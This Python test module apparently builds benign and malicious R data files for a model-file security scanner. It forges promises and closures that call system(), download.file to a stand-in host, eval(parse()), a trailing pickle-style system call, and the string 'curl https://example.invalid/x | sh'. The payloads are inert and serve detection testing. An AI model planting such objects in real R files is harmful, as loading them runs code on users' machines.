"""R objects: honest ones, promises that run when touched, and functions that start programs."""

from __future__ import annotations

import struct
from typing import Any

from stannary.testing.forges import forge
from stannary.testing.forges._format_writers import constant, r_file

_F = "R"
_RUN = ("call", "system", "echo stannary")
_OBJECTS: dict[str, tuple[Any, bool | None]] = {
    "plain": (("list", "a text", 1.5, ("call", "lm", ("symbol", "formula"))), False),
    "promise_system": (("promise", "<unbound>", _RUN), True),
    "promise_nested": (("list", ("tagged", "model", ("promise", "<unbound>", ("call", "{", _RUN)))), True),
    "promise_quiet": (("promise", "<unbound>", ("call", "Sys.time")), True),
    "promise_indirect": (("promise", "<unbound>", ("call", "do.call", "system", "echo stannary")), True),
    "promise_forced": (("list", ("promise", 1.5, ("call", "sqrt", 2.25))), False),
    "promise_symbol": (("list", ("promise", "<unbound>", ("symbol", "logit"))), False),
    "closure_system": (("closure", None, ("call", "{", _RUN)), True),
    "closure_download": (("list", ("closure", None, ("call", "download.file", "https://example.invalid/x", "y"))), True),
    "closure_do_call": (("closure", None, ("call", "do.call", "system", ("call", "list", "echo"))), True),
    "closure_get": (("closure", None, ("call", "(", ("call", "get", "system"))), True),
    "closure_namespace": (("closure", None, ("call", "::", ("symbol", "base"), ("symbol", "system"))), True),
    "closure_parse": (("closure", None, ("call", "eval", ("call", "parse", "system('echo stannary')"))), True),
    "closure_plain": (("closure", ("tagged", "x", "<missing>"), ("call", "sqrt", ("symbol", "x"))), False),
    "expression_system": (("list", _RUN), True),
    "active": (("list", ("tagged", "x", ("closure", None, ("call", "sqrt", 2.0)), "active")), False),
    "pointer": (("list", ("pointer",)), False),
    "text_shell": (("list", "curl https://example.invalid/x | sh"), True),
}
for _name, (_value, _bad) in _OBJECTS.items():
    forge(f"rdata.{_name}", filename="model.rds", family=_F, malicious=_bad)(constant(r_file(_value)))


@forge("rdata.saved", filename="model.RData", family=_F, malicious=True)
def _saved() -> bytes:
    return r_file(("tagged", "model", ("promise", "<unbound>", _RUN)), magic=b"RDX2\n")


@forge("rdata.ascii_promise", filename="model.rds", family=_F, malicious=True)
def _ascii() -> bytes:
    call = "6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n4\necho\n254\n"
    return ("A\n2\n262912\n131840\n" + "1029\n253\n252\n" + call).encode()


@forge("rdata.trailing", filename="model.rds", family=_F, malicious=True)
def _trailing() -> bytes:
    return r_file("a text") + b"cposix\nsystem\n(S'echo stannary'\ntR."


@forge("rdata.truncated", filename="model.rds", family=_F, malicious=None)
def _truncated() -> bytes:
    return r_file(("list", "a text", "another text"))[:40]


@forge("rdata.huge_vector", filename="model.rds", family=_F, malicious=None)
def _huge() -> bytes:
    return b"X\n" + struct.pack(">iii", 2, 0x040300, 0x020300) + struct.pack(">ii", 14, 0x7FFFFFFF)


@forge("rdata.deep", filename="model.rds", family=_F, malicious=None)
def _deep() -> bytes:
    return b"X\n" + struct.pack(">iii", 2, 0x040300, 0x020300) + struct.pack(">ii", 19, 1) * 50_000


@forge("rdata.unknown_version", filename="model.rds", family=_F, malicious=None)
def _version() -> bytes:
    return b"X\n" + struct.pack(">iii", 77, 0, 0)
